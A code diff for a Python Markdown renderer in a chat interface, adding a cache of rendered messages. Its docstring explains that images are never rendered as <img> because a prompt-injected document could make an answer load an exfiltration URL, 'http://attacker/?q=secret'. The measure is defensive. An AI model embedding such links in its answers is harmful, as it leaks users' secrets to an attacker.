@@ -3,13 +3,14 @@
 Safety: raw HTML in a message is escaped (``html=False``), and images are never
 turned into ``<img>``: a prompt-injected document could otherwise make an
 answer load ``http://attacker/?q=secret``.  An image becomes a plain link the
-user may click.  Links are not followed by the view itself (see ``chatview``).
+user may click.  Links are not followed by the view itself (see :mod:`app.ui.chat.view`).
 """
 
 from __future__ import annotations
 
 import html
 import re
+from collections import OrderedDict
 from collections.abc import Sequence
 from dataclasses import dataclass
 from typing import Any
@@ -43,9 +44,13 @@ class Rendered:
     code_blocks: tuple[str, ...]
 
 
+RENDER_CACHE_SIZE = 400  # rendered messages kept (a few hundred kB of HTML)
+
+
 class MarkdownRenderer:
     def __init__(self, dark: bool = False) -> None:
         self.dark = dark
+        self._cache: OrderedDict[str, Rendered] = OrderedDict()
         self._formatter = HtmlFormatter(nowrap=True, noclasses=True, style="monokai" if dark else "friendly")
         self._md = MarkdownIt("commonmark", {"html": False, "linkify": False, "breaks": True})
         self._md.enable(["table", "strikethrough"])
@@ -60,9 +65,17 @@ class MarkdownRenderer:
         self._blocks: list[str] = []
 
     def render(self, text: str) -> Rendered:
+        """The HTML of ``text``, cached: switching back to a chat re-renders nothing it showed recently."""
+        cached = self._cache.get(text)
+        if cached is not None:
+            self._cache.move_to_end(text)
+            return cached
         self._blocks = []
-        body = self._md.render(text)
-        return Rendered(body, tuple(self._blocks))
+        rendered = Rendered(self._md.render(text), tuple(self._blocks))
+        self._cache[text] = rendered
+        if len(self._cache) > RENDER_CACHE_SIZE:
+            self._cache.popitem(last=False)
+        return rendered
 
     def _fence(self, tokens: Sequence[Any], idx: int) -> str:
         token = tokens[idx]
